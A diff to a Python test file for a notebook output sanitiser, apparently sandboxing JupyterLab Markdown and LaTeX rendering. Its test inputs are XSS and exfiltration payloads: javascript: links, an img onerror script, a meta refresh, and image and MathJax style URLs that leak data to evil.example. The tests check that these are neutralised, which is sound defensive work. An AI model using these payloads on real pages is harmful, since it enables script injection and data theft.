@@ -52,26 +52,35 @@ def test_a_less_than_sign_in_css_cannot_end_the_style() -> None:
     "[click](javascript:alert(1))",
     "[click]\x00(javascript:alert(1))",
     "> [x]: javascript:alert(1)\n\n[x]",
-    "- [x]: javascript:alert(1)\n\n[x]",
     "![beacon](https://evil.example/leak?d=secret)",
-    "<img src=x onerror=alert(1)>",
-    "text <https://evil.example>",
+    "<img src=x onerror=alert(1)><meta http-equiv=refresh content=0;url=x>",
+    "<a target=_self href=https://evil.example>x</a>",
+    "$\\style{cursor:url(https://evil.example/leak)}{x}$",
+    "```mermaid\ngraph TD\n  A --> B\n```",
 ])
-def test_markdown_that_could_link_or_load_shows_as_text(markdown: str) -> None:
+def test_markdown_never_reaches_the_pages_renderer(markdown: str) -> None:
+    """Markdown becomes HTML here and crosses isolated: JupyterLab's renderer (MathJax math,
+    mermaid diagrams, raw HTML, links) never sees a sandbox's Markdown."""
     data, _ = safe_bundle({"text/markdown": markdown, "text/plain": "p"}, {})
     assert "text/markdown" not in data and data["text/plain"] == "p"
+    assert data["text/html"].startswith('<iframe id="sandbox-frame-')
+    body = data["text/html"].split("&lt;body&gt;", 1)[1].split("&lt;/body&gt;", 1)[0]
+    assert "javascript:" not in body
+    assert not re.search(r"target=|&lt;meta|&lt;img[^&]*onerror|&lt;script", body), body
 
 
-def test_plain_markdown_renders() -> None:
-    data, _ = safe_bundle({"text/markdown": "# Title\n\n**bold** and `code`"}, {})
-    assert data["text/markdown"] == "# Title\n\n**bold** and `code`"
+def test_markdown_renders_as_html_in_its_frame() -> None:
+    data, _ = safe_bundle({"text/markdown": "# Title\n\n**bold** and `code`\n\n|a|b|\n|-|-|\n|1|2|"}, {})
+    inner = data["text/html"]
+    assert "&lt;h1&gt;Title&lt;/h1&gt;" in inner and "&lt;strong&gt;bold&lt;/strong&gt;" in inner
+    assert "&lt;table&gt;" in inner
 
 
-@pytest.mark.parametrize("latex", [r"\href{javascript:x}{y}", "\\h\x00ref{javascript:x}{y}",
-                                   r"\def\x{1}", r"$\style{color:red}{x}$"])
-def test_latex_that_makes_links_or_macros_shows_as_text(latex: str) -> None:
-    data, _ = safe_bundle({"text/latex": latex}, {})
-    assert "text/latex" not in data
+@pytest.mark.parametrize("latex", [r"$x^2$", r"\href{javascript:x}{y}", r"$\style{color:red}{x}$"])
+def test_latex_is_shown_as_its_text(latex: str) -> None:
+    """MathJax in the page would load URLs from styles and move text over the notebook."""
+    data, _ = safe_bundle({"text/latex": latex, "text/plain": "t"}, {})
+    assert data == {"text/plain": "t"}
 
 
 def test_every_bundle_can_be_sent_as_a_kernel_message() -> None:
